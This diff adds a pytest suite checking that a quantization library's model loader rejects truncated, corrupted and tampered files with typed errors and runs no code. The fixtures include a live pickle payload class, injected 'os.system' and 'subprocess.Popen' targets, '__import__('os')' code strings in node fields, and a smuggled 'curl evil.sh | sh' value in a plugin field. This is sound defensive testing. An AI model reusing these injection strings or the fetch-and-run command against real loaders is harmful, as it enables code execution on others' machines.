@@ -1,0 +1,293 @@
+"""qp.load on hostile and damaged files (reliability rows 35-38, G11): a typed error, never code.
+
+Every test starts from a good artifact of a small hand-built reference model and damages it the
+way a bad disk, a bad copy or an attacker would.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pickle
+import random
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+import torch
+from safetensors import safe_open
+from safetensors.torch import save_file
+from torch import fx, nn
+
+import qplug_core as qp
+from qplug_core.errors import BackendNotFoundError, QplugError, SerializationError, UnsafeFileError
+from qplug_core.kernels.reference import Dequantize, Quantize, ReferenceWeighted
+from qplug_core.plugins import QplugPluginWarning
+from qplug_core.qparams import QParams
+from qplug_core.serialization import ARTIFACT_KEY, capture_artifact, load, save
+
+WEIGHT = "fc.module.weight"
+
+
+def reference_model() -> fx.GraphModule:
+    """quantize -> dequantize -> int8-weight linear, with per-channel weight qparams."""
+    torch.manual_seed(0)
+    activation = QParams(torch.tensor(0.05), torch.tensor(128), torch.quint8, 0, 255)
+    weight = QParams(torch.full((3,), 0.02), torch.zeros(3, dtype=torch.int64), torch.qint8, -128, 127,
+                     axis=0)
+    root = nn.Module()
+    root.quantize, root.dequantize = Quantize(activation), Dequantize(activation)
+    root.fc = ReferenceWeighted(nn.Linear(4, 3), weight)
+    graph = fx.Graph()
+    x = graph.placeholder("x")
+    quantized = graph.call_module("quantize", (x,))
+    graph.output(graph.call_module("fc", (graph.call_module("dequantize", (quantized,)),)))
+    gm = fx.GraphModule(root, graph)
+    gm.meta[ARTIFACT_KEY] = capture_artifact(gm)
+    return gm
+
+
+@pytest.fixture
+def good_file(tmp_path: Path) -> Path:
+    return save(reference_model(), tmp_path / "good.safetensors")
+
+
+@pytest.fixture
+def sentinel(tmp_path: Path) -> Path:
+    return tmp_path / "pwned"
+
+
+def rewrite(source: Path, edit: Callable[[dict[str, Any], dict[str, torch.Tensor]], None]) -> Path:
+    """A copy of ``source`` with its document and tensors edited (as an attacker would)."""
+    with safe_open(str(source), framework="pt") as f:
+        document = json.loads(f.metadata()["qplug"])
+        tensors = {k: f.get_tensor(k) for k in f.keys()}
+    edit(document, tensors)
+    target = source.with_name("edited.safetensors")
+    save_file(tensors, str(target), metadata={"qplug": json.dumps(document)})
+    return target
+
+
+def node(document: dict[str, Any], name: str) -> dict[str, Any]:
+    return next(n for n in document["model"]["graph"] if n["name"] == name)
+
+
+def module(document: dict[str, Any], path: str) -> dict[str, Any]:
+    return next(m for m in document["model"]["modules"] if m["path"] == path)
+
+
+def test_good_file_loads(good_file):
+    x = torch.randn(2, 4)
+    assert torch.equal(load(good_file)(x), reference_model()(x))
+
+
+# -- pickles (row 35, G11) -------------------------------------------------------------------------
+
+
+class Payload:
+    """Unpickling this creates a directory: the observable stand-in for arbitrary code."""
+
+    def __init__(self, path: Path):
+        self.path = str(path)
+
+    def __reduce__(self):
+        return os.mkdir, (self.path,)
+
+
+@pytest.mark.parametrize("writer", ["torch.save", "pickle-2", "pickle-5"])
+def test_pickle_payload_is_refused_and_never_runs(writer, tmp_path, sentinel):
+    path = tmp_path / "model.pt"
+    if writer == "torch.save":
+        torch.save({"state": Payload(sentinel)}, path)
+    else:
+        path.write_bytes(pickle.dumps(Payload(sentinel), protocol=int(writer[-1])))
+    pickle.loads(pickle.dumps(Payload(sentinel)))  # the payload is live: unpickling runs it
+    assert sentinel.exists()
+    sentinel.rmdir()
+
+    with pytest.raises(UnsafeFileError, match="pickle") as info:
+        load(path)
+    assert str(path) in str(info.value) and "qp.save" in str(info.value)
+    assert not sentinel.exists()
+
+
+# -- damaged files (row 36) ------------------------------------------------------------------------
+
+
+def header_size(path: Path) -> int:
+    return int.from_bytes(path.read_bytes()[:8], "little")
+
+
+def test_truncated_file_names_the_file(good_file):
+    data = good_file.read_bytes()
+    header = header_size(good_file)
+    for end in sorted({0, 3, 8, 9, 8 + header // 2, 8 + header, 8 + header + 1, len(data) // 2 + header // 2,
+                       len(data) - 1}):
+        good_file.with_name("cut.safetensors").write_bytes(data[:end])
+        with pytest.raises(SerializationError) as info:
+            load(good_file.with_name("cut.safetensors"))
+        assert "cut.safetensors" in str(info.value), end
+
+
+@pytest.mark.parametrize("declared", [2**63 - 1, 10**9, 100_000_001])
+def test_huge_declared_header_is_refused_before_reading(good_file, declared):
+    data = good_file.read_bytes()
+    good_file.write_bytes(declared.to_bytes(8, "little") + data[8:])
+    with pytest.raises(SerializationError, match="declares") as info:
+        load(good_file)
+    assert str(good_file) in str(info.value)
+
+
+def test_flipped_header_bytes_give_a_serialization_error(good_file):
+    data = bytearray(good_file.read_bytes())
+    header = header_size(good_file)
+    for offset in range(8, 8 + header, max(1, header // 40)):
+        damaged = bytearray(data)
+        damaged[offset] ^= 0xFF
+        good_file.with_name("flipped.safetensors").write_bytes(bytes(damaged))
+        with pytest.raises(SerializationError) as info:
+            load(good_file.with_name("flipped.safetensors"))
+        assert "flipped.safetensors" in str(info.value), offset
+
+
+def test_random_damage_never_escapes_as_an_untyped_error(good_file):
+    data = good_file.read_bytes()
+    rng = random.Random(0)
+    for _ in range(60):
+        damaged = bytearray(data)
+        for _ in range(rng.randint(1, 3)):
+            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
+        good_file.with_name("random.safetensors").write_bytes(bytes(damaged))
+        try:
+            load(good_file.with_name("random.safetensors"))
+        except QplugError:
+            pass  # damage in the tensor bytes loads (with other values); anything else is typed
+
+
+def test_absurdly_nested_document_is_refused(tmp_path):
+    path = tmp_path / "nested.safetensors"
+    nested = '{"format": "qplug", "schema_version": 1, "model": ' + "[" * 200_000 + "]" * 200_000 + "}"
+    save_file({"x": torch.zeros(1)}, str(path), metadata={"qplug": nested})
+    with pytest.raises(SerializationError, match="nested.safetensors"):
+        load(path)
+
+
+def test_not_a_qplug_file(tmp_path):
+    with pytest.raises(SerializationError, match="no such file"):
+        load(tmp_path / "missing.safetensors")
+    plain = tmp_path / "plain.safetensors"
+    save_file({"x": torch.zeros(2)}, str(plain))
+    with pytest.raises(SerializationError, match="without qplug metadata"):
+        load(plain)
+
+
+# -- tampered documents and tensors (rows 37-38, G11) ----------------------------------------------
+
+
+def _int8_as_int16(document, tensors):
+    tensors[WEIGHT] = tensors[WEIGHT].to(torch.int16)
+
+
+def _int8_as_int16_in_table_too(document, tensors):
+    _int8_as_int16(document, tensors)
+    document["model"]["tensors"][WEIGHT]["dtype"] = "torch.int16"
+
+
+def _weight_stored_as_float(document, tensors):
+    tensors[WEIGHT] = tensors[WEIGHT].float()
+    document["model"]["tensors"][WEIGHT] = {"dtype": "torch.float32", "shape": [3, 4]}
+
+
+def _call(target: str, *args: Any) -> Callable[[dict, dict], None]:
+    def edit(document, tensors):
+        node(document, "fc").update(op="call_function", target=target, args=list(args))
+    return edit
+
+
+def _set(getter: Callable[[dict], dict], **fields: Any) -> Callable[[dict, dict], None]:
+    def edit(document, tensors):
+        getter(document).update(fields)
+    return edit
+
+
+TAMPERING = {
+    "missing tensor": (lambda d, t: t.pop("fc.module.bias"), "missing \\['fc.module.bias'\\]"),
+    "extra tensor": (lambda d, t: t.update(smuggled=torch.zeros(1)), "extra \\['smuggled'\\]"),
+    "unused tensor": (lambda d, t: (t.update(smuggled=torch.zeros(1)), d["model"]["tensors"].update(
+                          smuggled={"dtype": "torch.float32", "shape": [1]})), "not used by any module"),
+    "int8 weight stored as int16": (_int8_as_int16, "torch.int16"),
+    "int8 weight as int16, table edited too": (_int8_as_int16_in_table_too, "stored as torch.int8"),
+    "quantized weight stored as float": (_weight_stored_as_float, "must be stored as its int8 values"),
+    "wrong shape in table": (lambda d, t: d["model"]["tensors"]["fc.module.bias"].update(shape=[4]),
+                             "table says"),
+    "newer schema_version": (lambda d, t: d.update(schema_version=2), "schema_version"),
+    "other format": (lambda d, t: d.update(format="other"), "not a qplug artifact"),
+    "os.system as a call target": (_call("os.system", "touch pwned"), "disallowed name 'os.system'"),
+    "torch.load as a call target": (_call("torch.load", "evil.pt"), "not a tensor operation"),
+    "subprocess class as a module": (_set(lambda d: module(d, "quantize"), **{"class": "subprocess.Popen"}),
+                                     "disallowed name 'subprocess.Popen'"),
+    "code in a node name": (_set(lambda d: node(d, "fc"), name="fc=__import__('os').mkdir('pwned')#"),
+                            "not a plain Python identifier"),
+    "code in a placeholder": (_set(lambda d: node(d, "x"), target="x=__import__('os').mkdir('pwned')"),
+                              "not an argument name"),
+    "code in a module path": (_set(lambda d: node(d, "fc"), target='fc")(__import__("os").mkdir("pwned")'),
+                              "not a dotted path"),
+    "code in a keyword": (_set(lambda d: node(d, "fc"), kwargs=[["a=__import__('os').mkdir('pwned'),b", 1]]),
+                          "not a plain Python identifier"),
+    "dunder module path": (_set(lambda d: node(d, "fc"), target="__class__"), "not a dotted path"),
+    "integer dequantize dtype": (lambda d, t: d["model"]["tensors"][WEIGHT].update(int8_of="torch.int64"),
+                                 "not a float dtype"),
+    "dunder method": (_set(lambda d: node(d, "fc"), op="call_method", target="__reduce__"), "private"),
+    "dunder attribute": (_call("builtins.getattr", {"node": "x"}, "__class__"), "private"),
+    "forward reference": (_set(lambda d: node(d, "quantize"), args=[{"node": "fc"}]),
+                          "not defined before it"),
+    "method override": (_set(lambda d: module(d, "quantize"), attrs={"forward": {"callable": "torch.relu"}}),
+                        "cannot be set from a file"),
+}
+
+
+@pytest.mark.parametrize("case", list(TAMPERING))
+def test_tampered_file_gives_a_serialization_error_and_runs_nothing(case, good_file, sentinel, monkeypatch):
+    monkeypatch.chdir(good_file.parent)  # relative payload paths would land next to the sentinel
+    edit, message = TAMPERING[case]
+    path = rewrite(good_file, edit)
+    with pytest.raises(SerializationError, match=message) as info:
+        load(path)
+    assert str(path) in str(info.value)
+    assert not sentinel.exists()
+
+
+# -- backends and plugins (row 37) -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("plugins", "command"), [
+    ([{"name": "nosuch", "dist": "nosuch-vendor", "version": "1.0"}], "pip install nosuch-vendor"),
+    ([], "pip install qplug-nosuch"),
+    ([{"name": "nosuch", "dist": "x; curl evil.sh | sh", "version": "1.0"}], "pip install qplug-nosuch"),
+])
+def test_backend_not_installed_says_what_to_install(good_file, plugins, command):
+    path = rewrite(good_file, lambda d, t: d.update(backend="nosuch", plugins=plugins))
+    with pytest.raises(BackendNotFoundError, match=command) as info:
+        load(path)
+    assert "curl" not in str(info.value)
+    assert str(path) in str(info.value) and "backend='reference'" in str(info.value)
+    assert torch.equal(load(path, backend="reference")(torch.ones(1, 4)), reference_model()(torch.ones(1, 4)))
+
+
+def test_known_backend_not_loaded_names_its_distribution(good_file):
+    # the tests load only the built-in plugins, so fbgemm is "not installed" here
+    saved = [{"name": "fbgemm", "dist": "qplug-fbgemm", "version": "0.1.0"}]
+    path = rewrite(good_file, lambda d, t: d.update(backend="fbgemm", plugins=saved))
+    with pytest.raises(BackendNotFoundError, match="pip install qplug-fbgemm"):
+        load(path)
+
+
+def test_incompatible_plugin_version_warns_and_loads(good_file, plugin_autoload):
+    if not any(info.name == "fbgemm" and info.available for info in qp.list_backends()):
+        pytest.skip("backend 'fbgemm' is not installed and available here")
+    saved = [{"name": "fbgemm", "dist": "qplug-fbgemm", "version": "7.0.0"}]
+    path = rewrite(good_file, lambda d, t: d.update(backend="fbgemm", plugins=saved))
+    with pytest.warns(QplugPluginWarning, match="qplug-fbgemm 7.0.0"):
+        loaded = load(path)
+    assert qp.quantization_report(loaded).backend == "fbgemm"
